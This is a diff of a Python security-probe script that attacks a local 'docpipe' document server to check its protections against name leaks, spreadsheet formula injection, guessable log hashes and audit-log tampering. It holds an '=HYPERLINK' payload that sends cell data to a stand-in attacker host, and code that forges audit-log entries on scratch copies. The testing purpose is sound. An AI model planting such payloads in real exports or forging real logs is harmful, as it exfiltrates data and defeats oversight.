@@ -1,5 +1,5 @@
-"""Probes a running `docpipe serve` as an attacker would (issue 10's "Measure and report"): for each threat,
-what a request against the real server now gets, with the time it took.
+"""Probes a running `docpipe serve` as an attacker would (issue 10's "Measure and report", then issue 23's
+red-team findings): for each threat, what a request against the real server now gets, with the time it took.
 
 Set-up: a fresh home under a temp dir; per-user keys made with the CLI
 (`python -m docpipe keys create --home HOME --user U --matter M:ROLE --json`): alice deal-x:write,
@@ -8,15 +8,30 @@ bob deal-y:write, carol deal-x:read, dana deal-x:admin. The server is started as
 on 127.0.0.1, with GRADIO_TEMP_DIR inside the temp dir so Gradio's cache can be inspected. The CLI does not expose
 the header and body read timeouts (ServeOptions.header_timeout_s = 10 s, body_timeout_s = 30 s then at least
 16 KB/s) nor limit_concurrency (256), so the probes run against those defaults and report the time measured
-until the server cut the connection. Two more servers: `--host 0.0.0.0` in a home without keys (must refuse to
-start), and a token-less loopback server with DOCPIPE_METRICS_TOKEN (the DNS-rebinding / cross-site target, and
-/metrics behind its token). Every server runs in its own process group and is killed in a `finally`.
+until the server cut the connection. Three more servers: `--host 0.0.0.0` in a home without keys (must refuse to
+start), a token-less loopback server with DOCPIPE_METRICS_TOKEN (the DNS-rebinding / cross-site target, and
+/metrics behind its token), and a token-less one with a store key (23.at-rest). Every server runs in its own
+process group and is killed in a `finally`.
 
-Probes (numbered as in the brief; run order differs only in that deleting matter deal-x comes last):
+Probes (numbered as in the briefs; run order differs only in that issue 23's come after 7, and deleting matter
+deal-x comes last):
 1 workbench path hole, 2 isolation between matters, 3 encrypted PDFs, 4 modes at rest, 5 deletion,
 6 exhaustion (slow body, half header, 300 idle connections, wrong type, JSON over the limit), 7 defaults
 (non-loopback bind, Host allow-list, cross-site Origin, /metrics), 8 faults (lone surrogate, what the server log
 and the access log hold, `docpipe audit --verify`, revocation).
+
+Issue 23 (run before probe 8, whose search of the server log then covers them, except 23.4 and 23.at-rest):
+23.1 an encrypted PDF alice stored as "Project-Falcon-merger-Acme-target.pdf", uploaded by bob without and with a
+wrong password and added to a deal-y collection: every message names bob's file; 23.2 bob's workbench ingest of
+bytes alice uploaded as a-formula.pdf shows bob's name; 23.3 a review job over "=cmd.pdf" asking "=HYPERLINK(...",
+its XLSX read back with openpyxl (no formula cell) and its CSV parsed (no formula-led field without an
+apostrophe); 23.4 copies of the live audit/ and access/ in scratch homes, untouched, cut by 1 and 5 lines, a line
+edited with the later hashes and the checkpoint's count/head redone, every MAC stripped with the checkpoint
+deleted (and that with the store's audit key deleted too, verified without a key and with a copy kept apart):
+`docpipe audit --verify` on each; 23.5 the plain SHA-256 of "What is the governing law?" is not in the
+log and `docpipe audit --question` finds it with the key; 23.6 a write key deleting the matter is a 'denied'
+line; 23.at-rest a token-less server with DOCPIPE_STORE_KEY_FILE (a key from `docpipe keys store-key`) holds no
+phrase of the texts, questions or PDF bytes in any file, against the main (keyless) server's home.
 
 Each record: probe, threat, request, outcome (HTTP status or what happened), seconds, observation, expected,
 as_expected. A record whose as_expected is false is a protection that did not hold: the script says so loudly.
@@ -28,6 +43,7 @@ Writes benchmarks/results/security_probes.json and docs/benchmarks/security_prob
 from __future__ import annotations
 
 import contextlib
+import hashlib
 import html
 import io
 import json
@@ -239,6 +255,9 @@ class Api:
     def delete(self, path: str) -> httpx.Response:
         return httpx.delete(self.url + path, headers=self.headers, timeout=60)
 
+    def post(self, path: str, **kwargs: Any) -> httpx.Response:
+        return httpx.post(self.url + path, headers=self.headers, timeout=180, **kwargs)
+
     def upload(
         self, data: bytes, name: str, password: str | None = None, params: dict[str, str] | None = None
     ) -> httpx.Response:
@@ -306,9 +325,9 @@ def files_mentioning(folders: list[Path], needles: list[bytes]) -> list[str]:
 
 
 # -- probe 1: the workbench path hole ---------------------------------------------------------------------
-def load_session(client: httpx.Client, base: str) -> str:
+def load_session(client: httpx.Client, base: str, matter: str = "deal-x") -> str:
     """Returns a Gradio session hash whose page-load event has run, as a browser's has: the workbench's
-    on_load fills the Matter dropdown with the user's matters, so a call naming "deal-x" passes Gradio's
+    on_load fills the Matter dropdown with the user's matters, so a call naming `matter` passes Gradio's
     choice check and reaches the file checks (a bare API call has no choices and fails there instead)."""
     config = client.get(f"{base}/config", timeout=10).json()
     load = next(d for d in config["dependencies"] if any(t[1] == "load" for t in d.get("targets", [])))
@@ -325,18 +344,24 @@ def load_session(client: httpx.Client, base: str) -> str:
         for line in stream.iter_lines():
             if line.startswith("data:") and json.loads(line[5:]).get("msg") == "process_completed":
                 output = json.loads(line[5:]).get("output", {})
-                if not json.dumps(output).count("deal-x"):
-                    raise RuntimeError(f"the page-load event did not offer matter deal-x: {str(output)[:200]}")
+                if not json.dumps(output).count(matter):
+                    raise RuntimeError(f"the page-load event did not offer matter {matter}: {str(output)[:200]}")
                 return session
     raise RuntimeError("the page-load event did not complete")
 
 
 def call_ingest(
-    client: httpx.Client, base: str, path: str, matter: str | None, session: str | None = None
+    client: httpx.Client,
+    base: str,
+    path: str,
+    matter: str | None,
+    session: str | None = None,
+    name: str = "contract.pdf",
 ) -> tuple[str, Any]:
-    """Calls the workbench's ingest endpoint naming `path` as the uploaded file (files, password, matter)."""
+    """Calls the workbench's ingest endpoint naming `path` as the uploaded file (files, password, matter);
+    `name` is the file's name as the browser reports it (FileData.orig_name)."""
     payload = {
-        "data": [[{"path": path, "orig_name": "contract.pdf", "meta": {"_type": "gradio.FileData"}}], "", matter],
+        "data": [[{"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}], "", matter],
         "session_hash": session,
     }
     response = client.post(f"{base}/gradio_api/call/ingest", json=payload, timeout=10)
@@ -1288,20 +1313,572 @@ def probe_faults(server: Server, keys: dict[str, str], state: dict[str, Any]) ->
             if needle in text
         ]
         entries = [json.loads(line) for line in text.splitlines() if line.strip()]
+        unkeyed = [e for e in entries if "questions_sha256" in e or "mac" not in e]
         rec.outcome = f"verify exit {verify.returncode}: {verify.stdout.strip()[:80]}"
-        rec.as_expected = verify.returncode == 0 and "intact" in verify.stdout and not leaks
+        rec.as_expected = verify.returncode == 0 and "intact" in verify.stdout and not leaks and not unkeyed
+        fields = sorted({name for entry in entries for name in entry})
         rec.observation = (
-            f"{len(entries)} entries (user, key_id, matter, document, action, questions_sha256, "
-            f"outcome); question text or file names in it: {leaks or 'none'}"
+            f"{len(entries)} entries ({', '.join(fields)}); unsigned or plain-hashed: {len(unkeyed)}; "
+            f"question text or file names in it: {leaks or 'none'}"
         )
 
     record(
         "8",
         threat,
         "docpipe audit --home HOME --verify; question text / names in audit/access.log",
-        expected="intact; hashes only",
+        expected="intact; signed lines, keyed question hashes only",
         run=audit_log,
     )
+
+
+# -- issue 23: the red team's five findings and the at-rest option ---------------------------------------
+SECRET_NAME = "Project-Falcon-merger-Acme-target.pdf"  # the confidential upload name of issue 23's finding 1
+FORMULA_QUESTION = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+GUESSABLE_QUESTION = "What is the governing law?"  # issue 23's example of a question confirmed by guessing
+# First characters (after leading white space) a spreadsheet reads as a formula (docs/exports.md).
+FORMULA_LEADS = tuple("=+-@＝＋－＠")
+
+
+def encrypted_pdf(data: bytes, password: str) -> bytes:
+    """Returns the PDF `data` encrypted with AES-256 under `password` (user and owner password)."""
+    import pypdf
+
+    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(data)))
+    writer.encrypt(password, algorithm="AES-256")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def error_message(response: httpx.Response) -> str:
+    try:
+        return str(response.json().get("error", {}).get("message", ""))
+    except (ValueError, AttributeError):
+        return ""
+
+
+def log_entries(home: Path, after: int = 0) -> list[dict[str, Any]]:
+    """Returns the access log's entries from byte offset `after` on."""
+    data = (home / "audit" / "access.log").read_bytes()[after:]
+    return [json.loads(line) for line in data.splitlines() if line.strip()]
+
+
+def log_size(home: Path) -> int:
+    path = home / "audit" / "access.log"
+    return path.stat().st_size if path.exists() else 0
+
+
+def probe_23_names(server: Server, keys: dict[str, str]) -> None:
+    """23.1: the error about an encrypted PDF another matter stored names it as this caller named it."""
+    alice, bob = Api(server, keys["alice"]), Api(server, keys["bob"])
+    threat = "issue 23: another matter's upload name"
+    password = "falcon-" + MARK
+    locked = encrypted_pdf(unique_pdf(f"Falcon {MARK} Acme Land"), password)
+    stored = alice.upload(locked, SECRET_NAME, password=password)
+    if stored.status_code != 200 or not stored.json().get("encrypted"):
+        raise RuntimeError(f"alice's encrypted upload failed: {status(stored)} {stored.text[:200]}")
+
+    for label, given, want, kind in (
+        ("without a password", None, 422, "password_required"),
+        ("with a wrong password", "a guess", 403, "wrong_password"),
+    ):
+
+        def upload(rec: Probe, given: str | None = given, want: int = want, kind: str = kind) -> None:
+            reply = bob.upload(locked, "bobs-copy.pdf", password=given)
+            message = error_message(reply)
+            rec.outcome = status(reply)
+            rec.as_expected = (
+                reply.status_code == want
+                and error_type(reply) == kind
+                and "bobs-copy.pdf" in message
+                and "Falcon" not in reply.text
+            )
+            rec.observation = f'"{message[:140]}"; the confidential name in the reply: {"Falcon" in reply.text}'
+
+        record(
+            "23.1",
+            threat,
+            f"alice stored an encrypted PDF as {SECRET_NAME}; bob (deal-y) uploads the same bytes as "
+            f"bobs-copy.pdf {label}",
+            expected=f"{want} {kind} naming bobs-copy.pdf, never alice's name",
+            run=upload,
+        )
+
+    def collection_add(rec: Probe) -> None:
+        created = bob.post("/v1/collections", json={"name": "room-y"})
+        results, reasons = {}, []
+        for label, form in (("no password", {}), ("a wrong password", {"password": "a guess"})):
+            added = bob.post(
+                "/v1/collections/room-y/documents",
+                files=[("file", ("bobs-room-copy.pdf", locked, "application/pdf"))],
+                data=form,
+            )
+            failed = added.json().get("failed", []) if added.status_code == 200 else []
+            reasons += [f["reason"] for f in failed]
+            results[label] = (
+                added.status_code == 200
+                and [f["file"] for f in failed] == ["bobs-room-copy.pdf"]
+                and all("bobs-room-copy.pdf" in f["reason"] for f in failed)
+                and "Falcon" not in added.text
+            )
+        rec.outcome = f"create {created.status_code}; " + "; ".join(
+            f"{k}: {'failed in bob’s words' if v else 'LEAK OR ERROR'}" for k, v in results.items()
+        )
+        rec.as_expected = created.status_code in (200, 201) and all(results.values())
+        rec.observation = "failure reasons: " + " / ".join(f'"{r[:110]}"' for r in reasons)
+
+    record(
+        "23.1",
+        threat,
+        "bob POST /v1/collections/room-y/documents with the same bytes as bobs-room-copy.pdf (no / wrong password)",
+        expected="200 with the file failed; the reason names bobs-room-copy.pdf, never alice's name",
+        run=collection_add,
+    )
+
+
+def probe_23_workbench_name(server: Server, keys: dict[str, str]) -> None:
+    """23.2: the workbench shows bob the name bob gave, not the first uploader's."""
+    base = f"{server.url}/ui"
+    data = unique_pdf(f"Formula {MARK} Land")
+
+    def ingest(rec: Probe) -> None:
+        first = Api(server, keys["alice"]).upload(data, "a-formula.pdf")
+        if first.status_code != 200:
+            raise RuntimeError(f"alice's upload failed: {status(first)}")
+        with httpx.Client() as client:
+            login = client.post(f"{base}/login", data={"username": "bob", "password": keys["bob"]}, timeout=10)
+            login.raise_for_status()
+            session = load_session(client, base, "deal-y")
+            up = client.post(f"{base}/gradio_api/upload", files={"files": ("b-own-copy.pdf", data)}, timeout=30)
+            up.raise_for_status()
+            (path,) = up.json()
+            started = time.monotonic()
+            kind, output = call_ingest(client, base, path, "deal-y", session, name="b-own-copy.pdf")
+            rec.seconds = round(time.monotonic() - started, 3)
+        shown = text_of(output[0]) if kind == "complete" and output else str(output)[:160]
+        everything = json.dumps(output, ensure_ascii=False)
+        listed = Api(server, keys["bob"]).get("/v1/documents").json()["documents"]
+        mine = [d["name"] for d in listed if d["id"] == first.json()["id"]]
+        rec.outcome = f"{kind}: {shown[:60]}"
+        rec.as_expected = (
+            kind == "complete"
+            and "✓ b-own-copy.pdf" in shown
+            and "a-formula" not in everything
+            and mine == ["b-own-copy.pdf"]
+        )
+        rec.observation = (
+            f"the upload result and the pickers it returns name the file as bob did; 'a-formula' anywhere in the "
+            f"reply: {'a-formula' in everything}; bob's REST listing names it {mine}"
+        )
+
+    record(
+        "23.2",
+        "issue 23: the first uploader's name in the workbench",
+        "alice uploads a PDF as a-formula.pdf; bob logs in to the workbench, uploads the same bytes as "
+        "b-own-copy.pdf and calls ingest",
+        expected="'✓ b-own-copy.pdf'; 'a-formula' nowhere in what bob is shown",
+        run=ingest,
+    )
+
+
+def probe_23_exports(server: Server, keys: dict[str, str]) -> None:
+    """23.3: a review grid whose question and document name lead like formulas, downloaded as XLSX and CSV."""
+    alice = Api(server, keys["alice"])
+    threat = "issue 23: formulas in export cells"
+    created = alice.post("/v1/collections", json={"name": "exports-x"})
+    added = alice.post(
+        "/v1/collections/exports-x/documents",
+        files=[("file", ("=cmd.pdf", unique_pdf(f"Exports {MARK} Land"), "application/pdf"))],
+    )
+    if created.status_code not in (200, 201) or added.status_code != 200 or not added.json().get("added"):
+        raise RuntimeError(f"collection set-up failed: {created.status_code}, {added.status_code} {added.text[:200]}")
+    started = alice.post(
+        "/v1/collections/exports-x/review",
+        json={"questions": [FORMULA_QUESTION, "-2+3 which law governs?"], "mode": "no_think"},
+    )
+    if started.status_code != 202:
+        raise RuntimeError(f"review not started: {status(started)} {started.text[:200]}")
+    job_url = started.json()["url"]
+    deadline = time.monotonic() + 120
+    while (job := alice.get(job_url).json())["state"] not in ("done", "failed", "cancelled"):
+        if time.monotonic() > deadline:
+            raise RuntimeError(f"review job not done in 120 s: {job['state']}")
+        time.sleep(0.2)
+    if job["state"] != "done":
+        raise RuntimeError(f"review job {job['state']}: {job.get('error')}")
+
+    def xlsx(rec: Probe) -> None:
+        import openpyxl
+
+        response = alice.get(f"{job_url}/grid?format=xlsx")
+        book = openpyxl.load_workbook(io.BytesIO(response.content))
+        formulas, planted = [], []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if cell.data_type == "f":
+                        formulas.append(f"{sheet.title}!{cell.coordinate}")
+                    if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=HYPERLINK", "=cmd")):
+                        planted.append((f"{sheet.title}!{cell.coordinate}", cell.data_type, bool(cell.quotePrefix)))
+        rec.outcome = f"{response.status_code}; {len(formulas)} formula cell(s)"
+        rec.as_expected = (
+            response.status_code == 200 and not formulas and bool(planted) and all(t == "s" for _, t, _ in planted)
+        )
+        rec.observation = (
+            f"sheets {book.sheetnames}; {len(planted)} cell(s) hold the planted text, all string cells "
+            f"(quote-prefixed: {sum(q for *_, q in planted)}), e.g. {', '.join(c for c, *_ in planted[:4])}"
+        )
+        rec.details = {"formula_cells": formulas, "planted_cells": planted}
+
+    record(
+        "23.3",
+        threat,
+        f"review job over '=cmd.pdf' asking {FORMULA_QUESTION}; GET /v1/jobs/<id>/grid?format=xlsx, read back "
+        "with openpyxl",
+        expected="no cell of any sheet with data_type 'f' (headers included)",
+        run=xlsx,
+    )
+
+    def csv_export(rec: Probe) -> None:
+        import csv
+
+        response = alice.get(f"{job_url}/grid?format=csv")
+        rows = list(csv.reader(io.StringIO(response.text)))
+        fields = [f for row in rows for f in row]
+        live = [f for f in fields if f[:1] in ("\t", "\r", "\n") or f.lstrip()[:1] in FORMULA_LEADS]
+        guarded = [f for f in fields if f.startswith("'") and f[1:].lstrip()[:1] in FORMULA_LEADS]
+        rec.outcome = f"{response.status_code}; {len(live)} field(s) leading like a formula"
+        rec.as_expected = response.status_code == 200 and not live and len(guarded) >= 3
+        rec.observation = (
+            f"{len(rows)} rows; header: {rows[0][:4] if rows else '-'}; apostrophe-guarded fields: {len(guarded)}"
+        )
+        rec.details = {"live_fields": live[:10], "guarded_fields": guarded[:10]}
+
+    record(
+        "23.3",
+        threat,
+        "the same grid as CSV (GET ...?format=csv), parsed with the csv module",
+        expected="no field starting with = + - @ (or after white space) without an apostrophe",
+        run=csv_export,
+    )
+
+
+def probe_23_question_hash(server: Server, keys: dict[str, str], state: dict[str, Any]) -> None:
+    """23.5: the log's hash of a guessable question confirms nothing without the audit key."""
+    alice = Api(server, keys["alice"])
+    threat = "issue 23: question hashes confirmed by guessing"
+
+    def guess(rec: Probe) -> None:
+        at = log_size(server.home)
+        asked = alice.ask(state["sample_id"], {"question": GUESSABLE_QUESTION})
+        plain = hashlib.sha256(GUESSABLE_QUESTION.encode()).hexdigest()
+        entries = [e for e in log_entries(server.home, at) if e.get("action") == "ask" and e.get("user") == "alice"]
+        text = (server.home / "audit" / "access.log").read_text(errors="replace")
+        found = cli(server.home, "audit", "--question", GUESSABLE_QUESTION, "--json")
+        hits = [json.loads(line) for line in found.stdout.splitlines() if line.strip()]
+        other = cli(server.home, "audit", "--question", "What is the governing law of Mars?", "--json")
+        rec.outcome = (
+            f"ask {asked.status_code}; plain SHA-256 in the log: {plain in text}; "
+            f"audit --question finds {len(hits)} entr{'y' if len(hits) == 1 else 'ies'}"
+        )
+        rec.as_expected = (
+            asked.status_code == 200
+            and len(entries) == 1
+            and bool(entries[0].get("questions_hmac"))
+            and plain not in text
+            and found.returncode == 0
+            and any(h.get("user") == "alice" and h.get("action") == "ask" for h in hits)
+            and other.returncode == 0
+            and not other.stdout.strip()
+        )
+        rec.observation = (
+            f"the entry's fields: {', '.join(sorted(entries[0])) if entries else '-'}; a question never asked "
+            f"finds {len(other.stdout.splitlines())} entries"
+        )
+
+    record(
+        "23.5",
+        threat,
+        f'alice asks "{GUESSABLE_QUESTION}"; search audit/access.log for its plain SHA-256; '
+        f'docpipe audit --home HOME --question "{GUESSABLE_QUESTION}" --json',
+        expected="the plain SHA-256 nowhere; the keyed hash found with the audit key",
+        run=guess,
+    )
+
+
+def probe_23_denied(server: Server, keys: dict[str, str]) -> None:
+    """23.6: a refused request on a matter is an access-log line."""
+    alice = Api(server, keys["alice"])
+
+    def denied(rec: Probe) -> None:
+        at = log_size(server.home)
+        response = alice.delete("/v1/matters/deal-x")
+        lines = log_entries(server.home, at)
+        hits = [e for e in lines if e.get("user") == "alice" and e.get("outcome") == "denied"]
+        rec.outcome = f"{status(response)}; {len(hits)} 'denied' line(s)"
+        rec.as_expected = response.status_code == 403 and len(hits) == 1 and hits[0].get("matter") == "deal-x"
+        rec.observation = (
+            "the new line: "
+            + json.dumps({k: hits[0].get(k) for k in ("user", "key_id", "matter", "action", "outcome", "detail")})
+            if hits
+            else f"new lines: {lines}"
+        )
+
+    record(
+        "23.6",
+        "issue 23: refusals not logged",
+        "alice (deal-x:write) DELETE /v1/matters/deal-x; read the access log's new lines",
+        expected="403 and one access-log line with outcome 'denied'",
+        run=denied,
+    )
+
+
+def _canonical_line(entry: dict[str, Any]) -> bytes:
+    # As docpipe writes a line (docpipe.access.log._canonical): what an attacker re-serialises.
+    return json.dumps(entry, ensure_ascii=False, sort_keys=True).encode()
+
+
+def _rechain(entries: list[dict[str, Any]], start: int) -> list[bytes]:
+    """Returns the entries as lines, each `prev` from index `start` on recomputed over the line before."""
+    lines = [_canonical_line(e) for e in entries]
+    for i in range(start, len(entries)):
+        entries[i]["prev"] = hashlib.sha256(lines[i - 1]).hexdigest() if i else "0" * 64
+        lines[i] = _canonical_line(entries[i])
+    return lines
+
+
+def probe_23_log_tamper(server: Server, tmp: Path) -> None:
+    """23.4: tampered copies of the live access log (never the live one), each checked by `docpipe audit
+    --verify` in a scratch home holding a copy of the store's audit key."""
+    threat = "issue 23: access log tail and re-hashing"
+
+    def scratch(label: str) -> Path:
+        home = tmp / f"audit-scratch-{label}"
+        home.mkdir(mode=0o700)  # a store folder as docpipe makes it (a looser one is only warned about)
+        for folder in ("audit", "access"):
+            shutil.copytree(server.home / folder, home / folder)
+        return home
+
+    def truncate(count: int) -> Callable[[Path], str]:
+        def cut(home: Path) -> str:
+            path = home / "audit" / "access.log"
+            lines = path.read_bytes().splitlines(keepends=True)
+            path.write_bytes(b"".join(lines[:-count]))
+            return f"{len(lines)} -> {len(lines) - count} lines, checkpoint untouched"
+
+        return cut
+
+    def rehash(home: Path) -> str:
+        path, checkpoint = home / "audit" / "access.log", home / "audit" / "checkpoint.json"
+        entries = [json.loads(line) for line in path.read_bytes().splitlines() if line.strip()]
+        target = len(entries) - 4
+        entries[target]["user"] = "mallory"
+        lines = _rechain(entries, target + 1)
+        path.write_bytes(b"".join(line + b"\n" for line in lines))
+        if checkpoint.exists():
+            data = json.loads(checkpoint.read_bytes())
+            data.update(lines=len(lines), head=hashlib.sha256(lines[-1]).hexdigest())  # its MAC cannot be redone
+            checkpoint.write_bytes(_canonical_line(data) + b"\n")
+        return f"line {target + 1} of {len(lines)} edited (user -> mallory), later prev and the checkpoint redone"
+
+    def downgrade(home: Path) -> str:
+        path = home / "audit" / "access.log"
+        entries = [json.loads(line) for line in path.read_bytes().splitlines() if line.strip()]
+        for entry in entries:
+            for name in ("mac", "mac_key_id", "seq", "resumed"):
+                entry.pop(name, None)
+        target = len(entries) // 2
+        entries[target]["user"] = "mallory"
+        lines = _rechain(entries, 0)
+        path.write_bytes(b"".join(line + b"\n" for line in lines))
+        (home / "audit" / "checkpoint.json").unlink(missing_ok=True)
+        return f"{len(lines)} lines stripped of mac/mac_key_id/seq, line {target + 1} edited, chain redone, checkpoint deleted"
+
+    cases: list[tuple[str, str, Callable[[Path], str] | None, tuple[str, ...]]] = [
+        ("untouched", "an untouched copy", None, ()),
+        ("last-1", "the last line removed", truncate(1), ("removed from the end",)),
+        ("last-5", "the last 5 lines removed", truncate(5), ("removed from the end",)),
+        (
+            "rehash",
+            "a line edited, every later prev recomputed, the checkpoint's count/head rewritten",
+            rehash,
+            ("forged",),
+        ),
+        (
+            "downgrade",
+            "the downgrade: every MAC stripped, a line edited, the chain recomputed, checkpoint.json deleted",
+            downgrade,
+            ("MAC", "checkpoint"),
+        ),
+    ]
+    for label, what, tamper, words in cases:
+
+        def verify(
+            rec: Probe,
+            label: str = label,
+            tamper: Callable[[Path], str] | None = tamper,
+            words: tuple[str, ...] = words,
+        ) -> None:
+            home = scratch(label)
+            done = tamper(home) if tamper else "copied as it is"
+            started = time.monotonic()
+            checked = cli(home, "audit", "--verify")
+            rec.seconds = round(time.monotonic() - started, 3)
+            said = (checked.stdout + checked.stderr).strip().replace(str(home), "<scratch>")
+            rec.outcome = f"exit {checked.returncode}"
+            if tamper is None:
+                rec.as_expected = checked.returncode == 0 and "intact" in said
+            else:
+                rec.as_expected = checked.returncode != 0 and any(w in said for w in words)
+            rec.observation = f'{done}: "{said[:220]}"'
+
+        record(
+            "23.4",
+            threat,
+            f"copy the live audit/ and access/ into a scratch home; {what}; docpipe audit --home SCRATCH --verify",
+            expected="exit 0, intact" if tamper is None else f"exit != 0 naming it ({' / '.join(words)})",
+            run=verify,
+        )
+
+    def key_deleted(rec: Probe) -> None:
+        home = scratch("downgrade-key-deleted")
+        done = downgrade(home)
+        kept_apart = tmp / "auditor-audit.key"  # the auditor's copy, out of the store writer's reach
+        shutil.copyfile(home / "access" / "audit.key", kept_apart)
+        kept_apart.chmod(0o600)
+        (home / "access" / "audit.key").unlink()
+        command = [sys.executable, "-m", "docpipe", "audit", "--home", str(home), "--verify"]
+        gone = subprocess.run(command, capture_output=True, text=True, timeout=120, env=server_env())
+        apart = subprocess.run(
+            command,
+            capture_output=True,
+            text=True,
+            timeout=120,
+            env=server_env({"DOCPIPE_AUDIT_KEY_FILE": str(kept_apart)}),
+        )
+        said = (apart.stdout + apart.stderr).strip().replace(str(home), "<scratch>")
+        rec.outcome = (
+            f"key gone from the store: exit {gone.returncode}; with the key kept apart: exit {apart.returncode}"
+        )
+        rec.as_expected = apart.returncode != 0 and "checkpoint" in said
+        rec.observation = (
+            f"{done}, and <scratch>/access/audit.key deleted. Without a key the stripped log reads as lines from "
+            f"before the log was signed (exit {gone.returncode}, with a warning that nothing anchors its end): the "
+            "documented limit (docs/access-log.md: the MAC only helps against someone who cannot reach the key, "
+            "and whoever writes the store can usually reach one kept in it: keep it apart). Verified with the "
+            f'auditor\'s copy (DOCPIPE_AUDIT_KEY_FILE): "{said[:160]}"'
+        )
+
+    record(
+        "23.4",
+        threat,
+        "the downgrade above, and the store's access/audit.key deleted too; docpipe audit --verify without a key, "
+        "then with DOCPIPE_AUDIT_KEY_FILE naming a copy kept apart",
+        expected="without a key: exit 0 with a warning (documented limit); with the key kept apart: exit != 0",
+        run=key_deleted,
+    )
+
+
+def at_rest_needles() -> dict[str, list[bytes]]:
+    """Returns what of the uploads and questions must not be readable on disk, by kind: phrases of the
+    sample's and the encrypted PDF's text, the questions, and slices of both PDFs' bytes."""
+    needles = {
+        "sample text": [b"Northwind Analytics", b"Lantern Row", b"Harbor & Vale", b"Receiving Party shall"],
+        "encrypted PDF text": [ENCRYPTED_PHRASE],
+        "questions": [QUESTION.encode(), b"Who are the parties?"],
+        "PDF bytes": [],
+    }
+    for data in (SAMPLE.read_bytes(), ENCRYPTED.read_bytes()):
+        needles["PDF bytes"] += [data[int(len(data) * f) : int(len(data) * f) + 48] for f in (0.25, 0.5, 0.75)]
+    return needles
+
+
+def count_mentions(home: Path, needles: dict[str, list[bytes]]) -> tuple[int, dict[str, list[str]]]:
+    """Returns how many files under `home` there are, and for each kind of needle the files holding one."""
+    total = sum(1 for p in home.rglob("*") if p.is_file() and not p.is_symlink())
+    return total, {
+        kind: [str(Path(h).relative_to(home)) for h in files_mentioning([home], found)]
+        for kind, found in needles.items()
+    }
+
+
+def probe_23_at_rest(keyless: Server, tmp: Path) -> None:
+    """23.at-rest: a server whose store key seals what it stores: nothing of the uploads readable on disk."""
+    threat = "issue 23: plain text at rest (store key)"
+    if not ENCRYPTED.is_file():
+        record("23.at-rest", threat, "-", expected="-", run=lambda rec: setattr(rec, "outcome", "skipped"))
+        return
+    home, key = tmp / "sealed-home", tmp / "store.key"
+    home.mkdir()
+    made = cli(home, "keys", "store-key", "--out", str(key))
+    if made.returncode != 0:
+        raise RuntimeError(f"docpipe keys store-key failed: {made.stderr}")
+    key_mode = oct(stat.S_IMODE(key.stat().st_mode))
+    with serving(
+        home,
+        "--no-ui",
+        "--log-level",
+        "warning",
+        env={"DOCPIPE_STORE_KEY_FILE": str(key)},
+        log=tmp / "sealed.log",
+    ) as sealed:
+        anyone = Api(sealed, None)
+
+        def use(rec: Probe) -> None:
+            sample = anyone.upload(SAMPLE.read_bytes(), "msa.pdf")
+            asked = anyone.ask(sample.json()["id"], {"question": QUESTION})
+            locked = anyone.upload(ENCRYPTED.read_bytes(), "locked.pdf", password=ENCRYPTED_PASSWORD)
+            asked_locked = httpx.post(
+                f"{sealed.url}/v1/documents/{locked.json().get('id')}/ask",
+                json={"question": "Who are the parties?", "password": ENCRYPTED_PASSWORD},
+                timeout=60,
+            )
+            sources = [home / "docs" / r.json()["id"] / "source.pdf" for r in (sample, locked) if r.status_code == 200]
+            magic = [p.read_bytes()[:1] == b"\x00" for p in sources if p.exists()]
+            codes = [sample.status_code, asked.status_code, locked.status_code, asked_locked.status_code]
+            rec.outcome = f"uploads {codes[0]}, {codes[2]}; asks {codes[1]}, {codes[3]}"
+            rec.as_expected = codes == [200] * 4 and len(magic) == 2 and all(magic)
+            rec.observation = (
+                f"store key made by `docpipe keys store-key --out FILE` (mode {key_mode}), given as "
+                f"DOCPIPE_STORE_KEY_FILE; both source.pdf files start with the sealed magic (NUL): {all(magic)}"
+            )
+
+        record(
+            "23.at-rest",
+            threat,
+            "token-less server with DOCPIPE_STORE_KEY_FILE: upload the sample and the encrypted PDF (its "
+            "password), ask each a question",
+            expected="200s; the stored sources sealed",
+            run=use,
+        )
+
+        def grep(rec: Probe) -> None:
+            needles = at_rest_needles()
+            sealed_total, sealed_hits = count_mentions(home, needles)
+            plain_total, plain_hits = count_mentions(keyless.home, needles)
+            sealed_files = sorted({f for files in sealed_hits.values() for f in files})
+            plain_files = sorted({f for files in plain_hits.values() for f in files})
+            rec.outcome = (
+                f"sealed home: {len(sealed_files)} of {sealed_total} files; "
+                f"keyless home (main server): {len(plain_files)} of {plain_total} files"
+            )
+            rec.as_expected = not sealed_files and bool(plain_files)
+            rec.observation = (
+                "files holding a phrase of the texts, a question or a slice of the PDFs' bytes, by kind, sealed / "
+                "keyless: "
+                + "; ".join(f"{k} {len(sealed_hits[k])} / {len(plain_hits[k])}" for k in needles)
+                + " (the keyless count is the documented plain store of probe 4, and shows the search finds them)"
+            )
+            rec.details = {"sealed_home": sealed_hits, "keyless_home": plain_hits}
+
+        record(
+            "23.at-rest",
+            threat,
+            "walk every file under the sealed server's home for phrases of both PDFs' text, the questions and "
+            "slices of the PDFs' bytes; the same on the main (keyless) server's home",
+            expected="0 files in the sealed home (the keyless home holds them, for comparison)",
+            run=grep,
+        )
 
 
 # -- run ---------------------------------------------------------------------------------------------------
@@ -1388,7 +1965,15 @@ def main() -> int:
                 log=tmp / "tokenless.log",
             ) as tokenless:
                 guarded(probe_defaults, server, keys, tokenless, metrics_token)
+            # Issue 23's findings, before probe 8 so that its search of the server log covers them too.
+            guarded(probe_23_names, server, keys)
+            guarded(probe_23_workbench_name, server, keys)
+            guarded(probe_23_exports, server, keys)
+            guarded(probe_23_question_hash, server, keys, state)
+            guarded(probe_23_denied, server, keys)
             guarded(probe_faults, server, keys, state)
+            guarded(probe_23_log_tamper, server, tmp)
+            guarded(probe_23_at_rest, server, tmp)  # compares with this home while deal-x still holds its PDFs
             guarded(probe_delete_matter, server, keys, state)
             alive = server.alive()
     finally:
@@ -1397,7 +1982,8 @@ def main() -> int:
         shutil.rmtree(tmp, ignore_errors=True)
     failed = [r for r in RECORDS if not r.as_expected]
     report = {
-        "what": "issue 10: probes against a running docpipe serve (127.0.0.1, echo engine, workbench on)",
+        "what": "issues 10 and 23: probes against a running docpipe serve (127.0.0.1, echo engine, workbench "
